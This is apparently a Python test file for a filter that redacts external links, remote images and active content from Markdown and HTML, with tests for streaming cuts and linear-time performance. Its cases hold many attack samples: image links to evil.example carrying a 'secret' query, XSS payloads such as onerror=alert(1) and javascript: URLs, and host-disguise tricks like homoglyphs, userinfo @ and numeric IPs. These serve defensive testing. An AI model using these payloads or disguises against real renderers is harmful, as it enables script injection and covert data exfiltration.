"""What runs and what leads out: found whatever it is written like, however it is cut, and in linear time."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tidegate.filtering.deny_list import DenyList
from tidegate.filtering.markup import MarkupSpotter
from tidegate.filtering.ruleset import Action, FilterPlan
from tidegate.filtering.staged import rewriting
from tidegate.filtering.targets import LONGEST, MARKUP
from tidegate.filtering.urls import Hosts, Leads

from tests.filtering.cost import SPOTTED, dear, per_mb
from tests.filtering.told import cut, cuts, found, marks_of

NOWHERE = Leads.NOWHERE
HOSTS = Hosts(["docs.example.com", "*.cdn.example.com", "münchen.example", "203.0.113.7", "messe.example"])
SPOTTER = MarkupSpotter(HOSTS)
PLAN = FilterPlan(dict.fromkeys(MARKUP, Action.REDACT), spotters=(SPOTTER,))


def rewritten(text: str, act: Action = Action.REDACT) -> str:
    rewriter = rewriting(FilterPlan(dict.fromkeys(MARKUP, act), spotters=(SPOTTER,)))
    return rewriter.feed(text) + rewriter.finish()


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        # images and links of Markdown
        ("see ![chart](https://evil.example/?q=secret)!", "see ![chart]([EXTERNAL_IMAGE])!"),
        ("[here](https://evil.example/a_(b) 'title')", "[here]([EXTERNAL_LINK] 'title')"),
        ("![a](<https://evil.example/a b>)", "![a](<[EXTERNAL_IMAGE]>)"),
        ("![a][1]\n\n[1]: https://evil.example/x 'y'", "![a][1]\n\n[1]: [EXTERNAL_IMAGE] 'y'"),
        ("[1]:\n  <https://evil.example/x>", "[1]:\n  <[EXTERNAL_IMAGE]>"),
        ("[![i](https://evil.example/i)](https://evil.example/l)", "[![i]([EXTERNAL_IMAGE])]([EXTERNAL_LINK])"),
        ("![a\\](https://evil.example/i)", "![a\\]([EXTERNAL_LINK])"),
        ("![a `[` b](https://evil.example/i)", "![a `[` b]([EXTERNAL_IMAGE])"),
        ("![a]b](https://evil.example/i)", "![a]b]([EXTERNAL_IMAGE])"),
        ("![a](\n  https://evil.example/i)", "![a](\n  [EXTERNAL_IMAGE])"),
        ("![a](" + " " * 5000 + "//evil.example)", "![a](" + " " * 5000 + "[EXTERNAL_IMAGE])"),
        # addresses by themselves
        ("Go to https://evil.example/x?y=1, now.", "Go to [EXTERNAL_LINK], now."),
        ("<https://evil.example/x> www.evil.example/y.", "<[EXTERNAL_LINK]> [EXTERNAL_LINK]."),
        ("xhttps://evil.example (http://evil.example)", "x[EXTERNAL_LINK] ([EXTERNAL_LINK])"),
        ("\\https://evil.example", "\\[EXTERNAL_LINK]"),
        ("http://[2001:db8::1]/x https://[::1]:8080/", "[EXTERNAL_LINK] [EXTERNAL_LINK]"),
        ("https://evil.example。次", "[EXTERNAL_LINK]。次"),
        ("https://docs.example.com\uff45vil.example/x", "[EXTERNAL_LINK]"),
        ("https://docs.example.com\u3007vil.example/x", "[EXTERNAL_LINK]"),
        # in a quotation
        ("> ![a](\n> //evil.example/x)", "> ![a](\n> [EXTERNAL_IMAGE])"),
        (">> ![a][1]\n>>\n>> [1]:\n> > //evil.example/x", ">> ![a][1]\n>>\n>> [1]:\n> > [EXTERNAL_IMAGE]"),
        ("> <img\n> src=//evil.example/x>", "> <img\n> src=[EXTERNAL_IMAGE]>"),
        ("> <img src=\n > > //evil.example/x>", "> <img src=\n > > [EXTERNAL_IMAGE]>"),
        ("> <img src='\n> //evil.example/x'>", "> <img src='[EXTERNAL_IMAGE]'>"),
        ("> <b x='\n> ' onclick=alert(1)>", "> <b x='\n> ' onclick=[ACTIVE_CONTENT]>"),
        ("> <a href='java\n> script:alert(1)'>", "> <a href='[ACTIVE_CONTENT]'>"),
        # disguises of a host
        (
            "![a](https://me\xdfe.example/) ![a](https://me%C3%9Fe.example/)",
            "![a]([EXTERNAL_IMAGE]) ![a]([EXTERNAL_IMAGE])",
        ),
        ("![a](https://docs.exam\u200dple.com/)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](//evil.example/x)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](/\\evil.example/x)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](\\\\\\\\evil.example/x)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](https:evil.example)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](https:\\\\evil.example)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](https\\:\\/\\/evil.example)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](HTTPS&colon;//evil.example)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](&#104;ttps&#x3a;&sol;&sol;evil.example)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](https://docs.example.com@evil.example/)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](https://docs.example.com:80@evil.example:443/)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](https://docs.example.com.evil.example/)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](https://evil.example\\@docs.example.com/)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](https://evil.example#@docs.example.com/)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](https://evil.example%2f.cdn.example.com/)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](https://docs.example.com\t.evil.example)", "![a](https://docs.example.com\t.evil.example)"),
        ("<img src='https://docs.example.com\t.evil.example'>", "<img src='[EXTERNAL_IMAGE]'>"),
        ("![a](https://cdn.example.com/)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](http://3405803783/) ![a](http://0xCB.0.0x71.7/)", "![a]([EXTERNAL_IMAGE]) ![a]([EXTERNAL_IMAGE])"),
        ("![a](https://d\u043ecs.example.com/)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](https://xn--dcs-qed.example.com/)", "![a]([EXTERNAL_IMAGE])"),
        ("![a](ftp://evil.example/) [b](intent://evil#Intent;end)", "![a]([EXTERNAL_IMAGE]) [b]([EXTERNAL_LINK])"),
        # behind what another rule makes brackets of
        ("!Bob(//evil.example/x)", "!Bob([EXTERNAL_IMAGE])"),
        ("!<script>(/\\evil.example/x)", "![ACTIVE_CONTENT]([EXTERNAL_IMAGE])"),
        ("!Bob(&#x2f;/evil.example/x)", "!Bob([EXTERNAL_IMAGE])"),
        ("Bob(javascript:alert(1))", "Bob([ACTIVE_CONTENT])"),
        ("Bob: //evil.example/x", "Bob: [EXTERNAL_IMAGE]"),
        ("Bob://evil.example/x", "Bob:[EXTERNAL_IMAGE]"),
        ("Bob:\n  //evil.example/x", "Bob:\n  [EXTERNAL_IMAGE]"),
        ("Bob: https:evil.example/x", "Bob: [EXTERNAL_IMAGE]"),
        ("URL: https://evil.example/x", "URL: [EXTERNAL_LINK]"),
        # what runs
        ("a <script>alert(1)</script> b", "a [ACTIVE_CONTENT]alert(1)[ACTIVE_CONTENT] b"),
        ("<ScRiPt src='https://evil.example/a.js' >", "[ACTIVE_CONTENT]"),
        ("<iframe\nsrcdoc=x/>", "[ACTIVE_CONTENT]"),
        ("<style>@import 'x'</style>", "[ACTIVE_CONTENT]@import 'x'[ACTIVE_CONTENT]"),
        ("<object data=x><embed src=y>", "[ACTIVE_CONTENT][ACTIVE_CONTENT]"),
        ("<script " + "x" * 5000 + ">", "[ACTIVE_CONTENT] " + "x" * 5000 + ">"),
        ("<img src=x onerror=alert(1)>", "<img src=x onerror=[ACTIVE_CONTENT]>"),
        ("<img src='x'onerror='alert(1)'/>", "<img src='x'onerror='[ACTIVE_CONTENT]'/>"),
        ("<x/onclick\n=\n\"alert('>')\">", '<x/onclick\n=\n"[ACTIVE_CONTENT]">'),
        ("<img title='>' onerror=alert(1)>", "<img title='>' onerror=[ACTIVE_CONTENT]>"),
        ("<img alt=" + " " * 99 + "'>' onerror=alert(1)>", "<img alt=" + " " * 99 + "'>' onerror=[ACTIVE_CONTENT]>"),
        ("1 <b =' <img src=x onerror=alert(1)>", "1 <b =' <img src=x onerror=[ACTIVE_CONTENT]>"),
        ("<b oncontentvisibilityautostatechange=alert(1)>", "<b oncontentvisibilityautostatechange=[ACTIVE_CONTENT]>"),
        ("<x:script xmlns:x=y>alert(1)</x:script>", "[ACTIVE_CONTENT]alert(1)[ACTIVE_CONTENT]"),
        ("<svg/onload=alert(1)", "<svg/onload=[ACTIVE_CONTENT]"),
        ("[a](javascript:alert(1))", "[a]([ACTIVE_CONTENT])"),
        ("[a](java&Tab;script:alert(1))", "[a]([ACTIVE_CONTENT])"),
        ("[a](<\x01java\tscript:alert(1)>)", "[a](<[ACTIVE_CONTENT]>)"),
        ("<a href=' j&#x0A;avascript&colon;alert(1)'>", "<a href='[ACTIVE_CONTENT]'>"),
        ('<a href="java\nscript:alert(1)">', '<a href="[ACTIVE_CONTENT]">'),
        ("<javascript:alert(1)>", "<[ACTIVE_CONTENT]>"),
        ("[a](data:text/html;base64,PHNjcmlwdD4=)", "[a]([ACTIVE_CONTENT])"),
        ("![a](data:image/svg+xml,x)", "![a]([ACTIVE_CONTENT])"),
        ("[a](vbscript:x)", "[a]([ACTIVE_CONTENT])"),
        ("<p style='background:url(//evil.example/x)'>", "<p style='[EXTERNAL_IMAGE]'>"),
        ("<p style='background:u\\72l(//evil.example)'>", "<p style='[ACTIVE_CONTENT]'>"),
        # attributes that fetch
        ("<img src=//evil.example/x>", "<img src=[EXTERNAL_IMAGE]>"),
        ("<img srcset='a.png 1x, //evil.example/x 2x'>", "<img srcset='[EXTERNAL_IMAGE]'>"),
        ('<video poster="https://evil.example/p">', '<video poster="[EXTERNAL_IMAGE]">'),
        ("<a class=x href=//evil.example>t</a>", "<a class=x href=[EXTERNAL_LINK]>t</a>"),
        ("<image <a href=//evil.example>", "<image <a href=[EXTERNAL_IMAGE]>"),
        ('<b src="![a](https://evil.example/x)">', '<b src="![a]([EXTERNAL_IMAGE])">'),
        ("<img src=x attributionsrc=//evil.example>", "<img src=x attributionsrc=[EXTERNAL_IMAGE]>"),
        ("<p style='background:image(\"//evil.example/x\")'>", "<p style='[EXTERNAL_IMAGE]'>"),
        ("<svg><use href=//evil.example#x>", "<svg><use href=[EXTERNAL_IMAGE]>"),
    ],
)
def test_what_runs_or_leads_out_is_taken_out_and_the_text_around_it_stays(text: str, safe: str) -> None:
    assert rewritten(text) == safe


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://docs.example.com/x.png) and https://docs.example.com/y, <https://docs.example.com:8443/z>",
        "![a](//img.cdn.example.com/x) ![b](https://a.b.cdn.example.com) <img src='https://x.cdn.example.com/'>",
        "[ü](https://MÜNCHEN.example/) [p](https://xn--mnchen-3ya.example) [d](https://docs.example.com./)",
        "[n](http://203.0.113.7/x) [e](https://docs%2eexample.com/) [u](https://me:pw@docs.example.com/)",
        "[rel](/a/b) [rel](a.html) [top](#part) [mail](mailto:a@example.com) [call](tel:+1) ![e]() [q](?a=b)",
        "![dot](data:image/png;base64,iVBORw0KGgo=) <img src='data:image/gif;base64,R0lGODdh'>",
        "https://messe.example/x。次 https://messe.example、https://messe.example）",
        "> quoted\n> <b>text</b>\n> on=1 > 2",
        'for (i = 0; i<n; i++) { a[i]: x = "on"; } if (a <b && c> d) return vector<int>{1};',
        "x: list[int]: y; https:// alone, http:/x, C:\\\\x, a:b, //comment, 3 < 4 and once=1 on=2",
        "<p class='x'>It is <b>fine</b>.</p> <br/> <img src=logo.png alt=\"a > b\"> only=https",
        "use `on` handlers: onclick is an attribute; data = 3, src = 4, style = 'x'",
        "[https://docs.example.com](https://docs.example.com/x)",
        "foo(//comment) call(bar, baz) key: //x note: a/b f(data: x) (//y.z)",
        "metadata:data:1 std::vector a:b:c (e.g.: x)",
        "s3://bucket/key Bob(see below) Bob: intent:x C: /dev/null",
        "https://docs.example.com/?u=https://docs.example.com/",
    ],
)
def test_what_is_harmless_stays(text: str) -> None:
    assert rewritten(text) == text


def test_a_link_without_its_target_is_what_drop_leaves() -> None:
    text = "![chart](https://evil.example/x) [t](javascript:x) <a href='//evil.example'>t</a>"
    assert rewritten(text, Action.DROP) == "![chart]() [t]() <a href=''>t</a>"


@pytest.mark.parametrize("size", [LONGEST - 30, LONGEST, LONGEST + 1, 3 * LONGEST, 8000])
def test_a_target_of_any_length_goes_whole(size: int) -> None:
    text = f"![a](https://evil.example/?q={'A' * size}) b"
    assert rewritten(text) == "![a]([EXTERNAL_IMAGE]) b"
    assert rewritten(f"<a href='https://evil.example/?{'A ' * (size // 2)}'>b") == "<a href='[EXTERNAL_LINK]'>b"


def test_of_a_target_without_end_nothing_but_marks_is_left() -> None:
    assert set(rewritten("https://evil.example/" + "q" * 50_000).split("[EXTERNAL_LINK]")) == {""}


PIECES = [
    "![",
    "[",
    "](",
    "]:",
    "](<",
    ")",
    "]",
    "!",
    "\\",
    "`",
    "(",
    " ",
    "\n",
    "\n\n",
    "\n> ",
    "\r\n",
    "  ",
    "=",
    "'",
    '"',
    ">",
    "<",
]
PIECES += [
    "https://",
    "evil.example",
    "docs.example.com",
    "//",
    "/",
    ":",
    "http",
    "www.",
    "w",
    "x",
    "&colon;",
    "&#58;",
    "java",
]
PIECES += [
    "script:",
    "<script",
    "</script>",
    "<img ",
    "<a ",
    "src",
    "href=",
    "onerror",
    "style=",
    "url(",
    "srcset=",
    "data:",
]
PIECES += [
    " ".join(["q"] * 9),
    "Q" * 200,
    "é",
    "。",
    "\t",
    "<svg/onload",
    "<https:",
    "image/png,",
    "{",
    "; i<n; i++",
    "@",
    ".",
]
TEXTS = st.lists(st.sampled_from(PIECES), max_size=22).map("".join)
LONG = st.tuples(
    TEXTS,
    st.sampled_from(
        ["](https://evil.example/", "<img src='//evil.example/", "http://evil.example/", "<script ", "](&"]
    ),
    st.integers(LONGEST - 40, 2 * LONGEST + 5),
    TEXTS,
)


@given(text=TEXTS, places=cuts)
@settings(max_examples=700, deadline=None)
def test_any_cutting_finds_what_the_whole_has(text: str, places: list[int]) -> None:
    told = marks_of(SPOTTER, [text])
    assert marks_of(SPOTTER, cut(text, places)) == told
    assert marks_of(SPOTTER, [*text]) == told


@given(parts=LONG, places=cuts)
@settings(max_examples=60, deadline=None)
def test_any_cutting_of_a_long_one_finds_what_the_whole_has(
    parts: tuple[str, str, int, str], places: list[int]
) -> None:
    text = parts[0] + parts[1] + "a" * parts[2] + parts[3]
    told = marks_of(SPOTTER, [text])
    assert marks_of(SPOTTER, cut(text, places)) == told
    assert marks_of(SPOTTER, [text[at : at + 97] for at in range(0, len(text), 97)]) == told


BESIDE = st.lists(
    st.sampled_from([*PIECES, *["Bob", "//evil.example/x", "(", ":", "java", "<script>"] * 4]), max_size=16
)


@given(text=BESIDE.map("".join))
@settings(max_examples=1500, deadline=None)
def test_what_is_left_holds_nothing_that_counts_though_other_values_became_brackets(text: str) -> None:
    plan = FilterPlan(
        dict.fromkeys([*MARKUP, "LIST_X"], Action.REDACT),
        spotters=(DenyList("LIST_X", "x", ["Bob"], whole=False), SPOTTER),
    )
    rewriter = rewriting(plan)
    left = rewriter.feed(text) + rewriter.finish()
    # An address with a placeholder in it is none: no host has such a name. A scheme of nobody's is not guessed at.
    again = [value for value in found(SPOTTER, left) if not re.search(r"\[(?:LIST_X|ACTIVE|EXTERNAL)", value)]
    tag = [value for value in again if value.startswith("<")]
    assert tag + [value for value in again if HOSTS.leads(value, image=True, guess=True) is not NOWHERE] == []


HOSTILE = {
    "open tags": "<a ",
    "open attributes": "<a x=",
    "open quotes": "<a x=\"<b y='",
    "brackets": "[",
    "images": "![](",
    "relative": "[a](b",
    "mail": "[a](mailto:",
    "entities": "[a](&",
    "allowed": "https://docs.example.com/",
    "external": "https://evil.example/",
    "targets": "![a](https://evil.example/ ",
    "parentheses": "[a]((((",
    "scripts": "<script ",
    "handlers": "<x onclick=",
    "names": "<x src src src ",
    "equals": "<x = = =",
    "escapes": "\\",
    "schemes": "http:",
    "styles": "<p style='url(url(url(",
    "sets": "<img srcset='a,a,a,",
    "spaces": "](  ",
    "paths of Windows": "C:\\a ",
    "open brackets": "![[[[(",
    "a colon and a bracket": "(:",
    "empty links": "[](",
    "attributes": "<a href=b ",
    "long": "A",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_megabyte_of_the_worst_is_quick(name: str) -> None:
    piece = HOSTILE[name]
    text = "<a x='](" * (name == "long") + piece * (1_000_000 // len(piece))
    assert not dear(lambda text: marks_of(SPOTTER, [text]), text, SPOTTED)


def test_links_and_tags_are_quick_in_deltas() -> None:
    text = "Some prose, [a link](https://docs.example.com/x) and <b>words</b> \n" * 2000
    assert per_mb(lambda text: marks_of(SPOTTER, cut(text, range(0, len(text), 4))), text, 6.0) < 6.0
